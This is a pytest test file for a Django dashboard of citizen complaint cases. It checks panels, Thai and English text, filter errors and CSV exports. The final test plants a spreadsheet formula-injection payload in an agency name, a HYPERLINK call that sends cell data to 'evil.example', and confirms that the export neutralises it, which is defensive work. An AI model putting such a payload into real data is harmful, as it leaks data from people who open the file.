"""The /dashboard/ page, its panels and the CSV download of every table, in Thai and English."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date

import pytest
from django.test import Client

from pracha.agencies.models import Agency
from pracha.cases.models import Case
from pracha.insights.models import Alert
from pracha.insights.reports.dashboard import TABLES

pytestmark = pytest.mark.django_db
MARCH = "from=2024-03-01&to=2024-03-31"


@pytest.fixture
def some_cases(make_case: Callable[..., Case]) -> None:
    make_case(categories=["road"], created="2024-03-02 09:00", district="จตุจักร", state="done",
              closed="2024-03-03 09:00", stars=5)  # fmt: skip
    make_case(categories=["flooding"], created="2024-03-04 09:00", district="บางรัก")


def test_dashboard_shows_indicators_charts_and_map(api: Client, some_cases: None) -> None:
    response = api.get(f"/dashboard/?{MARCH}&by=district", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    page = response.content.decode()
    for needle in ("chart-trend", "hotspot-map", "vendor/chartjs/chart.umd.js",
                   "vendor/leaflet/leaflet.js", "จตุจักร", "/dashboard/indicators.csv?",
                   "/dashboard/panel/scorecards/", 'id="dash-data"'):  # fmt: skip
        assert needle in page
    assert "Chatu Chak" in page  # English district name


def test_dashboard_speaks_thai(api: Client, some_cases: None) -> None:
    page = api.get(f"/dashboard/?{MARCH}", HTTP_ACCEPT_LANGUAGE="th").content.decode()
    assert "ตัวชี้วัด" in page and "จุดที่มีปัญหามาก" in page and "ปัญหาที่เกิดซ้ำ" in page


def test_panels_render_alone(api: Client, some_cases: None) -> None:
    for name in ("scorecards", "forwarding"):
        response = api.get(f"/dashboard/panel/{name}/?{MARCH}")
        assert response.status_code == 200 and b"<section" in response.content
    assert api.get("/dashboard/panel/nothing/").status_code == 404


@pytest.mark.parametrize("table", sorted(TABLES))
def test_every_table_downloads_as_csv(api: Client, some_cases: None, table: str) -> None:
    response = api.get(f"/dashboard/{table}.csv?{MARCH}")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # a BOM: Excel then reads Thai
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == TABLES[table]


def test_indicator_csv_holds_the_rows(api: Client, some_cases: None) -> None:
    text = api.get(f"/dashboard/indicators.csv?{MARCH}&by=category").content.decode("utf-8-sig")
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["road"]["reported"] == "1" and rows["flooding"]["open"] == "1"


def test_bad_filters_are_explained(api: Client, db: None) -> None:
    response = api.get("/dashboard/?from=2024-02-31")
    assert response.status_code == 400 and b"from must be a date" in response.content
    assert api.get("/dashboard/indicators.csv?category=nothing").status_code == 400
    assert api.get("/dashboard/nothing.csv").status_code == 404


def csv_rows(api: Client, url: str) -> list[dict[str, str]]:
    response = api.get(url)
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("query", "message"),
    [("by=street", "by must be one of"), ("by=state&category=nothing", "unknown category"),
     ("agency=nobody", "no agency matches"), ("district=ไม่มีเขตนี้", "unknown district")],
)  # fmt: skip
def test_bad_group_and_unknown_filters_get_a_400_page_that_says_why(
    api: Client, areas: None, query: str, message: str
) -> None:
    response = api.get(f"/dashboard/?{MARCH}&{query}", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    page = response.content.decode()
    assert 'class="flash flash--error"' in page and message in page
    assert api.get(f"/dashboard/indicators.csv?{MARCH}&{query}").status_code == 400
    assert api.get(f"/dashboard/panel/forwarding/?{MARCH}&{query}").status_code == 400


def test_a_known_district_by_any_of_its_names_selects_it(
    api: Client, some_cases: None, areas: None
) -> None:
    for name in ("จตุจักร", "เขตจตุจักร", "Chatu Chak"):
        response = api.get(f"/dashboard/?{MARCH}&district={name}")
        assert response.status_code == 200
        assert '<option value="จตุจักร" selected>' in response.content.decode()
    rows = csv_rows(api, f"/dashboard/indicators.csv?{MARCH}&district=Chatu Chak")
    assert {r["key"]: r["reported"] for r in rows} == {"road": "1"}


def test_alerts_appear_on_the_dashboard(api: Client, some_cases: None) -> None:
    Alert.objects.create(day=date(2024, 3, 20), category="flooding", district="บางรัก",
                         observed=17, expected=1.5, p_value=1e-6)  # fmt: skip
    page = api.get(f"/dashboard/?{MARCH}", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert 'id="h-alerts"' in page and "2024-03-20" in page and "<td>17</td>" in page
    assert "Bang Rak" in page and "/dashboard/alerts.csv?" in page
    assert "the agency filter does not" not in page
    quiet = api.get(f"/dashboard/?{MARCH}&district=จตุจักร", HTTP_ACCEPT_LANGUAGE="en")
    assert 'id="h-alerts"' not in quiet.content.decode()  # an alert elsewhere
    by_agency = api.get(f"/dashboard/?{MARCH}&agency=bma", HTTP_ACCEPT_LANGUAGE="en")
    page = by_agency.content.decode()
    assert "<td>17</td>" in page  # alerts keep no agency: shown, and the page says so
    assert 'data-panel-note="alerts"' in page and 'data-panel-note="recurring"' in page
    assert "the agency filter does not apply" in page


def test_every_filter_reaches_the_hotspot_map_and_the_open_data_link(
    api: Client, some_cases: None
) -> None:
    page = api.get(f"/dashboard/?{MARCH}&district=บางรัก&agency=bma&category=flooding").content
    text = page.decode()
    assert 'data-district="บางรัก"' in text and 'data-agency="bma"' in text
    assert 'data-category="flooding"' in text
    link = text.split('href="/api/v1/open-data/cases.csv?', 1)[1].split('"', 1)[0]
    assert "district=%E0%B8%9A" in link and "agency=bma" in link and "category=flooding" in link


def test_forwarding_panel_counts_hops_for_the_category_and_district_and_says_what_it_cannot(
    api: Client, some_cases: None
) -> None:
    def hop_cases(query: str) -> int:
        return sum(int(r["cases"]) for r in csv_rows(api, f"/dashboard/hops.csv?{MARCH}&{query}"))

    assert hop_cases("") == 2
    assert hop_cases("district=บางรัก") == 1
    assert hop_cases("category=road") == 1
    assert hop_cases("category=road&district=บางรัก") == 0
    english = api.get(f"/dashboard/panel/forwarding/?{MARCH}&district=บางรัก",
                      HTTP_ACCEPT_LANGUAGE="en").content.decode()  # fmt: skip
    assert "Forwards between agencies are counted over every category and district" in english
    thai = api.get(f"/dashboard/panel/forwarding/?{MARCH}&category=road",
                   HTTP_ACCEPT_LANGUAGE="th").content.decode()  # fmt: skip
    assert "การส่งต่อระหว่างหน่วยงานนับรวมทุกประเภทและทุกเขต" in thai
    plain = api.get(f"/dashboard/panel/forwarding/?{MARCH}&agency=bma").content.decode()
    assert "data-panel-note" not in plain


def test_scorecards_panel_shows_the_chosen_agency_ranked_among_all(
    api: Client, some_cases: None, make_case: Callable[..., Case],
    make_agency: Callable[..., Agency],
) -> None:  # fmt: skip
    works = make_agency("works")
    make_case(categories=["road"], created="2024-03-05 09:00", agency=works, state="done",
              closed="2024-03-05 12:00")  # fmt: skip
    every = csv_rows(api, f"/dashboard/scorecards.csv?{MARCH}")
    assert {r["agency"] for r in every} == {"bma", "works"}
    only = csv_rows(api, f"/dashboard/scorecards.csv?{MARCH}&agency=works")
    assert [r["agency"] for r in only] == ["works"]
    panel = api.get(f"/dashboard/panel/scorecards/?{MARCH}&agency=works",
                    HTTP_ACCEPT_LANGUAGE="en").content.decode()  # fmt: skip
    assert "its rank is among all agencies" in panel


def test_a_formula_in_an_agency_name_is_neutralised_in_the_csv(
    api: Client, make_case: Callable[..., Case], make_agency: Callable[..., Agency]
) -> None:
    """Security 22.5: agency names arrive with imported reports; a spreadsheet would run one
    starting with = as a formula. Every dashboard CSV goes through pracha.csvsafe."""
    evil = make_agency("evil", '=HYPERLINK("http://evil.example/?d="&A1,"click")')
    make_case(created="2024-03-02 09:00", agency=evil, state="done", closed="2024-03-03 09:00")
    text = api.get(f"/dashboard/indicators.csv?{MARCH}&by=agency").content.decode("utf-8-sig")
    names = [row["name_th"] for row in csv.DictReader(io.StringIO(text)) if row["key"] == "evil"]
    assert names == ['\'=HYPERLINK("http://evil.example/?d="&A1,"click")']
